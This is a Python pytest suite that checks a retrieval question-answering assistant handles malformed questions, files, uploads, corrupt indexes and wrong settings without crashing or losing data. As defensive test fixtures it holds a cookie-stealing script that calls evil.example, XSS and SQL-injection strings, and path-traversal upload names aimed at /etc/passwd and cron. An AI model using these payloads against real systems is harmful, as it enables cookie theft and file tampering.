"""Bad input of every kind: a clear one-line error (or a sane answer), and nothing already indexed lost.

Questions go through the SDK and the real command; files through a real ingest on a real embedded Chroma
with the bundled embedder; uploads through `assistant.uploads`; broken index folders and wrong settings
through the command, as a user meets them.
"""

from __future__ import annotations

import json
import os
import random
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from assistant.assistant import Assistant
from assistant.errors import AssistantError
from assistant.settings import load_settings
from assistant.types import Answer
from assistant.uploads import save_upload, uploads_dir

ROOT = Path(__file__).resolve().parents[2]
GOOD = ("Osaka robotics fair draws crowds\n\nThousands of visitors came to Osaka on Tuesday to see new industrial"
        " robots from forty companies, the organisers said in a statement on Wednesday.\n")


def one_line(err: BaseException) -> str:
    text = str(err)
    assert text and "\n" not in text and "Traceback" not in text
    return text


def snapshot(a: Assistant) -> tuple[Any, ...]:
    with a.catalog.reading() as con:
        fts = con.execute("SELECT count(*) FROM chunks_fts").fetchone()[0]
    return ([(x.article_id, x.content_hash, x.text) for x in a.articles()], sorted(a.catalog.chunk_ids()),
            sorted(a.vectors.ids()), fts)


@pytest.fixture(scope="module")
def index_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("bad-input")
    shutil.copytree(ROOT / "articles", home / "articles")
    return home


@pytest.fixture(scope="module")
def assistant(index_home: Path, minilm: Any) -> Assistant:
    settings = load_settings(index_dir=index_home / "index", articles_dir=index_home / "articles", llm="extractive")
    a = Assistant(settings, embedder=minilm)
    assert len(a.articles()) == 2
    return a


# --- questions --------------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("question", "message"),
    [("", "empty"), ("   ", "empty"), (" \n\t\r\u00a0\u2003\u3000 ", "empty"),
     ("why " * 25_000, "characters long"), ("x" * 100_000, "characters long")],
    ids=["empty", "spaces", "unicode-whitespace", "100kB-words", "100kB-one-word"],
)
def test_bad_questions_are_one_line_errors(assistant: Assistant, question: str, message: str) -> None:
    before = snapshot(assistant)
    with pytest.raises(AssistantError, match=message) as err:
        assistant.ask(question)
    one_line(err.value)
    with pytest.raises(AssistantError, match=message):
        list(assistant.stream(question))
    with pytest.raises(AssistantError, match=message):
        assistant.chat().ask(question)
    assert snapshot(assistant) == before


ODD_QUESTIONS = {
    "control-chars": "When will Kishida\x00 meet\x07 Biden?\x1b[31m\x7f",
    "japanese": "岸田首相はいつバイデン大統領と会いますか？",
    "arabic": "متى سيلتقي كيشيدا مع بايدن؟",
    "mixed-scripts": "When will Кишида meet Байден 拜登 in April?",
    "emoji": "🇯🇵🤝🇺🇸 when do Kishida and Biden meet? 🎉",
    "rtl-override": "When will \u202eKishida\u202c meet Biden?",
    "zero-width": "When\u200b will\u200d Kishida\ufeff meet Biden?",
    "combining": "Whe\u0301n wi\u0308ll Kishida meet Biden?",
    "lone-surrogate": "When will Kishida \ud800 meet Biden?",
    "fts-syntax": 'Kishida" OR "Biden* NEAR( ) AND NOT ^col: {x}',
    "sql": "'; DROP TABLE chunks; -- Kishida",
    "html": "<script>alert(1)</script> Kishida <img src=x onerror=alert(2)>",
    "only-punctuation": "?!?!...;;;",
    "only-stopwords": "what is the and of it",
    "max-length": "Kishida Biden " * 142,  # just under the 2000-character limit
}


@pytest.mark.parametrize("question", list(ODD_QUESTIONS.values()), ids=list(ODD_QUESTIONS))
def test_odd_questions_answer_or_refuse_without_crashing(assistant: Assistant, question: str) -> None:
    before = snapshot(assistant)
    answer = assistant.ask(question)
    assert isinstance(answer, Answer)
    assert answer.refused or answer.citations
    assert all(c.chunk_id in before[1] for c in answer.citations)
    json.dumps(answer.to_dict())  # serialisable for the API and --json
    assert snapshot(assistant) == before


def run_cli(args: list[str], env: dict[str, str], **kw: Any) -> subprocess.CompletedProcess[bytes]:
    full = {k: v for k, v in os.environ.items() if not k.startswith(("ASSISTANT_", "OPENAI_"))}
    full.update(env)
    return subprocess.run([sys.executable, "-m", "assistant", *args], capture_output=True, env=full, timeout=300,
                          stdin=subprocess.DEVNULL, cwd=kw.get("cwd", ROOT))


@pytest.mark.parametrize(
    "argument",
    [b"When will Kishida meet Biden? \xff\xfe invalid utf-8", "岸田 Kishida \x1b[2J Biden".encode(), b"x" * 100_000],
    ids=["invalid-utf8-argv", "escape-sequence", "100kB-argv"],
)
def test_command_line_questions_never_traceback(index_home: Path, assistant: Assistant, argument: bytes) -> None:
    """Bytes that are not UTF-8 reach Python as lone surrogates; printing them must not crash."""
    env = {"ASSISTANT_INDEX_DIR": str(index_home / "index"), "ASSISTANT_ARTICLES_DIR": str(index_home / "articles"),
           "ASSISTANT_LLM": "extractive"}
    for extra in ([], ["--json"]):
        out = run_cli(["ask", os.fsdecode(argument), *extra], env)
        assert b"Traceback" not in out.stderr, out.stderr.decode(errors="replace")[-3000:]
        if out.returncode == 0:
            assert out.stdout.strip()
            if extra:
                json.loads(out.stdout)
        else:
            lines = out.stderr.decode(errors="replace").strip().splitlines()
            assert len(lines) == 1 and lines[0].startswith("error: "), out.stderr


# --- files ------------------------------------------------------------------------------------------

def _random_bytes(n: int) -> bytes:
    return random.Random(8).randbytes(n)


BAD_FILES: dict[str, tuple[str, bytes, str]] = {
    "empty": ("empty.txt", b"", "empty"),
    "whitespace": ("blank.md", b" \n\n\t\r\n   ", "empty"),
    "png-as-txt": ("photo.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + _random_bytes(4000), "binary"),
    "elf-as-html": ("tool.html", b"\x7fELF\x02\x01\x01\x00" + _random_bytes(4000), "binary"),
    "random-bytes": ("noise.txt", bytes(b | 0x80 for b in _random_bytes(6000)), "encoding|binary"),
    "control-chars": ("ctl.txt", bytes(range(1, 32)) * 100, "binary"),
    "html-only-scripts": ("scripts.html", b"<html><body><script>var a = 'Kishida meets Biden';</script>"
                          b"<style>p{}</style><nav>Home</nav></body></html>", "no readable text|boilerplate"),
    "pdf": ("report.pdf", b"%PDF-1.4 hello", "unsupported file type"),
    "no-suffix": ("README", b"text", "unsupported file type"),
}


@pytest.mark.parametrize("case", list(BAD_FILES), ids=list(BAD_FILES))
def test_bad_file_is_named_and_nothing_is_lost(assistant: Assistant, tmp_path: Path, case: str) -> None:
    name, data, message = BAD_FILES[case]
    folder = tmp_path / "incoming"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD)
    bad = folder / name
    bad.write_bytes(data)
    before = snapshot(assistant)
    target = bad if case in ("pdf", "no-suffix") else folder  # a folder skips unknown types
    with pytest.raises(AssistantError, match=message) as err:
        assistant.ingest([target])
    assert name in one_line(err.value)
    assert snapshot(assistant) == before  # not even good.txt: a run is all or nothing
    bad.unlink()
    report = assistant.ingest([folder])
    assert report.added == 1
    assistant.remove([a.article_id for a in assistant.articles() if a.path.endswith("good.txt")])
    assert snapshot(assistant) == before


def test_file_over_the_size_limit_is_refused_before_reading(assistant: Assistant, tmp_path: Path) -> None:
    big = tmp_path / "huge.txt"
    with big.open("wb") as fh:  # a sparse 50 MB file: the size check must come before reading it
        fh.truncate(50_000_000)
    before = snapshot(assistant)
    with pytest.raises(AssistantError, match=r"50\.0 MB is over the 20 MB limit") as err:
        assistant.ingest([big])
    assert "ASSISTANT_MAX_FILE_MB" in one_line(err.value)
    assert snapshot(assistant) == before


def test_other_encodings_and_scripts_are_indexed_verbatim(assistant: Assistant, tmp_path: Path) -> None:
    folder = tmp_path / "scripts"
    folder.mkdir()
    japanese = "岸田文雄首相は四月十日にワシントンを訪問し、バイデン大統領と会談する予定だと政府関係者が述べた。\n"
    russian = "Премьер-министр Японии посетит Вашингтон десятого апреля, сообщили официальные лица в среду.\n"
    (folder / "ja-shift-jis.txt").write_bytes(japanese.encode("shift_jis"))
    (folder / "ru-utf16.txt").write_bytes(russian.encode("utf-16"))
    (folder / "ja-utf8.md").write_text(f"# 見出し\n\n{japanese}", encoding="utf-8")
    before = snapshot(assistant)
    report = assistant.ingest([folder])
    assert report.added == 3
    texts = {Path(a.path).name: a.text for a in assistant.articles()}
    assert japanese.strip() in texts["ja-shift-jis.txt"] and japanese.strip() in texts["ja-utf8.md"]
    assert russian.strip() in texts["ru-utf16.txt"]
    answer = assistant.ask("ワシントン バイデン大統領")
    assert answer.refused or answer.citations
    assistant.remove([a.article_id for a in assistant.articles() if "/scripts/" in a.path])
    assert snapshot(assistant) == before


def test_html_with_scripts_keeps_only_the_text(assistant: Assistant, tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_text(
        "<html><head><title>Fair</title><script>fetch('http://evil.example/steal?c='+document.cookie)</script>"
        "</head><body onload=\"alert('onload')\"><article><h1>Osaka fair</h1>"
        "<p>Thousands of visitors came to Osaka on Tuesday to see robots <img src=x onerror=\"alert('img')\">"
        "from forty companies, the organisers said.</p><script>document.write('<b>injected</b>')</script>"
        "<iframe src='http://evil.example'></iframe><p>&lt;script&gt;alert('escaped')&lt;/script&gt; was"
        " printed on a banner at the entrance, a visitor noted.</p></article></body></html>"
    )
    before = snapshot(assistant)
    assistant.ingest([page])
    (article,) = [a for a in assistant.articles() if a.path.endswith("page.html")]
    for gone in ("fetch(", "document.cookie", "document.write", "onerror", "onload", "evil.example", "<img"):
        assert gone not in article.text
    assert "Thousands of visitors came to Osaka" in article.text
    # Text that merely looks like markup is kept as text; surfaces escape it when they show it.
    assert "<script>alert('escaped')</script>" in article.text
    assistant.remove([article.article_id])
    assert snapshot(assistant) == before


def test_symlinks_in_a_folder_never_crash_an_ingest(assistant: Assistant, tmp_path: Path) -> None:
    folder = tmp_path / "links"
    folder.mkdir()
    (folder / "real.txt").write_text(GOOD)
    (folder / "dangling.txt").symlink_to(tmp_path / "nowhere.txt")
    (folder / "loop.txt").symlink_to(folder / "loop.txt")
    (folder / "cycle").symlink_to(folder, target_is_directory=True)  # a directory cycle
    before = snapshot(assistant)
    report = assistant.ingest([folder])
    assert report.added == 1
    assert [a.path for a in assistant.articles() if "/links/" in a.path] == [
        (folder / "real.txt").resolve().as_posix()]
    assistant.remove([a.article_id for a in assistant.articles() if "/links/" in a.path])
    assert snapshot(assistant) == before


# --- uploads ----------------------------------------------------------------------------------------

@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd.txt", "..\\..\\windows\\win.ini.txt", "/etc/cron.d/evil.md", "a/../../b.html",
     "....//....//x.txt", "%2e%2e%2fetc%2fpasswd.txt", "evil\x00.txt", "nul\u202etxt.html", "  ./.hidden.txt "],
)
def test_upload_names_never_leave_the_uploads_folder(tmp_path: Path, name: str) -> None:
    settings = load_settings(index_dir=tmp_path / "index")
    try:
        path = save_upload(name, GOOD.encode(), settings)
    except AssistantError as err:
        one_line(err)
        assert not any(p.is_file() for p in tmp_path.rglob("*"))  # refused before anything was written
        return
    folder = uploads_dir(settings).resolve()
    assert path.resolve().parent == folder and path.read_text() == GOOD
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == [path]


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [("../../etc/passwd", GOOD.encode(), "unsupported file type"), ("evil.exe", b"MZ", "unsupported file type"),
     ("....txt", GOOD.encode(), "not a usable file name|unsupported"), ("a.txt", b"", "empty"),
     ("a.txt", b" \n\t ", "empty"), ("big.txt", b"x" * 21_000_000, "the limit is 20 MB")],
)
def test_bad_uploads_are_one_line_errors_and_write_nothing(tmp_path: Path, name: str, data: bytes,
                                                           message: str) -> None:
    settings = load_settings(index_dir=tmp_path / "index")
    with pytest.raises(AssistantError, match=message) as err:
        save_upload(name, data, settings)
    one_line(err.value)
    assert not any(p.is_file() for p in tmp_path.rglob("*"))


def test_upload_over_a_planted_symlink_replaces_the_link_not_its_target(tmp_path: Path) -> None:
    settings = load_settings(index_dir=tmp_path / "index")
    outside = tmp_path / "outside.txt"
    outside.write_text("precious")
    folder = uploads_dir(settings)
    folder.mkdir(parents=True)
    (folder / "story.txt").symlink_to(outside)
    path = save_upload("story.txt", GOOD.encode(), settings)
    assert outside.read_text() == "precious"
    assert not path.is_symlink() and path.read_text() == GOOD


# --- broken index folders ---------------------------------------------------------------------------

def _real_catalog(tmp_path: Path) -> bytes:
    from assistant.catalog import Catalog

    Catalog(tmp_path / "scratch" / "catalog.sqlite")
    return (tmp_path / "scratch" / "catalog.sqlite").read_bytes()


def _foreign_sqlite(path: Path) -> None:
    con = sqlite3.connect(path)
    con.execute("CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT)")
    con.execute("INSERT INTO customers VALUES (1, 'Ada')")
    con.commit()
    con.close()


def _future_schema(path: Path) -> None:
    from assistant.catalog import Catalog

    Catalog(path)
    con = sqlite3.connect(path)
    con.execute("UPDATE meta SET value = '99' WHERE key = 'schema_version'")
    con.commit()
    con.close()


BROKEN_INDEXES = {
    "garbage-catalog": lambda index, tmp: (index / "catalog.sqlite").write_bytes(b"not a database " * 200),
    "truncated-catalog": lambda index, tmp: (index / "catalog.sqlite").write_bytes(_real_catalog(tmp)[:1500]),
    "foreign-sqlite": lambda index, tmp: _foreign_sqlite(index / "catalog.sqlite"),
    "future-schema": lambda index, tmp: _future_schema(index / "catalog.sqlite"),
    "garbage-chroma": lambda index, tmp: ((index / "chroma").mkdir(),
                                          (index / "chroma" / "chroma.sqlite3").write_bytes(b"\x00junk" * 999)),
    "chroma-is-a-file": lambda index, tmp: (index / "chroma").write_text("not a folder"),
    "catalog-is-a-folder": lambda index, tmp: (index / "catalog.sqlite").mkdir(),
}


@pytest.fixture
def broken_index(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Path, dict[str, bytes]]]:
    index = tmp_path / "index"
    index.mkdir()
    BROKEN_INDEXES[request.param](index, tmp_path)
    files = {str(p): p.read_bytes() for p in index.rglob("*") if p.is_file()}
    yield index, files


# Every broken folder with `ask`; `ingest` and `articles` (each a process start-up) for all of them only in
# the long run (`-m slow`), and in CI for the two that differ most (not SQLite at all; someone else's).
CASES = [pytest.param(kind, command, id=f"{command[0]}-{kind}",
                      marks=() if command[0] == "ask" or kind in ("garbage-catalog", "foreign-sqlite")
                      else pytest.mark.slow)
         for command in (["ask", "When will Kishida meet Biden?"], ["ingest"], ["articles"])
         for kind in BROKEN_INDEXES]


@pytest.mark.parametrize(("broken_index", "command"), CASES, indirect=["broken_index"])
def test_corrupt_or_foreign_index_is_a_one_line_error_and_is_left_alone(
        broken_index: tuple[Path, dict[str, bytes]], tmp_path: Path, command: list[str]) -> None:
    index, files = broken_index
    shutil.copytree(ROOT / "articles", tmp_path / "articles")
    env = {"ASSISTANT_INDEX_DIR": str(index), "ASSISTANT_ARTICLES_DIR": str(tmp_path / "articles"),
           "ASSISTANT_LLM": "extractive"}
    out = run_cli(command, env)
    stderr = out.stderr.decode(errors="replace")
    assert out.returncode == 2, (out.returncode, stderr[-3000:])
    lines = stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and "rebuild" in lines[0], stderr[-3000:]
    # The user's (broken) files are never deleted or rewritten: moving them away is their call.
    for name, data in files.items():
        assert Path(name).read_bytes() == data


# --- settings of the wrong type ---------------------------------------------------------------------

@pytest.mark.parametrize(
    ("env", "toml", "name"),
    [({"ASSISTANT_TOP_K": "five"}, None, "ASSISTANT_TOP_K"),
     ({"ASSISTANT_TOP_K": "0"}, None, "ASSISTANT_TOP_K"),
     ({"ASSISTANT_TOP_K": "3.5"}, None, "ASSISTANT_TOP_K"),
     ({"ASSISTANT_MIN_RELEVANCE": "nan"}, None, "ASSISTANT_MIN_RELEVANCE"),
     ({"ASSISTANT_TEMPERATURE": "inf"}, None, "ASSISTANT_TEMPERATURE"),
     ({"ASSISTANT_MAX_FILE_MB": "-1"}, None, "ASSISTANT_MAX_FILE_MB"),
     ({"ASSISTANT_REQUEST_TIMEOUT": ""}, None, "ASSISTANT_REQUEST_TIMEOUT"),
     ({"ASSISTANT_LLM": "gpt-4"}, None, "ASSISTANT_LLM"),
     ({"ASSISTANT_CHROMA_URL": "localhost:8000"}, None, "ASSISTANT_CHROMA_URL"),
     ({"ASSISTANT_COLLECTION": "x"}, None, "ASSISTANT_COLLECTION"),
     ({}, 'top_k = "five"\n', "ASSISTANT_TOP_K"),
     ({}, "top_k = [1, 2]\n", "ASSISTANT_TOP_K"),
     ({}, "chunk_words = true\n", "ASSISTANT_CHUNK_WORDS"),
     ({}, "llm = 3\n", "ASSISTANT_LLM"),
     ({}, "[index]\ndir = 'x'\n", "index"),
     ({}, "topk = 4\n", "topk"),
     ({}, "top_k = \n", "not valid TOML"),
     ({}, "\x00\xff", "not valid TOML|config")],
)
def test_wrong_settings_are_one_line_errors_naming_the_variable(tmp_path: Path, env: dict[str, str],
                                                                 toml: str | None, name: str) -> None:
    full = {"ASSISTANT_INDEX_DIR": str(tmp_path / "index"), **env}
    if toml is not None:
        config = tmp_path / "assistant.toml"
        config.write_bytes(toml.encode("utf-8", "surrogateescape") if "\xff" not in toml else b"\x00\xff")
        full["ASSISTANT_CONFIG"] = str(config)
    out = run_cli(["articles"], full)
    stderr = out.stderr.decode(errors="replace")
    assert out.returncode == 2, stderr[-3000:]
    lines = stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), stderr[-3000:]
    assert any(part in lines[0] for part in name.split("|")), lines[0]
    assert not (tmp_path / "index").exists()  # a bad setting stops everything before the index is touched
